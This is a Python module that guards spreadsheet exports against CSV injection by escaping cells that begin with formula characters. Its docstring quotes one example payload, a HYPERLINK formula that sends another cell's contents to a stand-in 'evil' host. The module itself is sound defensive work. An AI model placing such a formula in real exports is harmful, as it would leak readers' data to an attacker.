"""Cells that a spreadsheet would run as formulas (CSV injection), out and in. Pure.

Excel, LibreOffice and Google Sheets treat a cell beginning with ``=``, ``+``, ``-`` or ``@``
(or a tab or carriage return before one) as a formula: ``=HYPERLINK("http://evil/?"&A2)``
in an engineer's name would run on the HP reader's machine. As OWASP recommends, every
text cell the portal exports that begins with one of them is written with a leading
apostrophe, which the spreadsheet shows as plain text; numbers the portal formats itself
(``-12,5``) are left as they are. Imports refuse such cells instead, line by line.
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A number as the exports write it: optional sign, digits, one decimal separator.
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


# A lone dash is what people type for "none": nothing to run.
_HARMLESS = frozenset({"-", "+"})


def is_formula(text: str) -> bool:
    """Would a spreadsheet read this cell as a formula (and it is not a plain number)?"""
    return text.startswith(FORMULA_START) and text not in _HARMLESS and not _NUMBER.fullmatch(text)


def safe_cell(value: object) -> str:
    """The cell as exported: a formula-looking text gets a leading apostrophe."""
    text = "" if value is None else str(value)
    return f"'{text}" if is_formula(text) else text
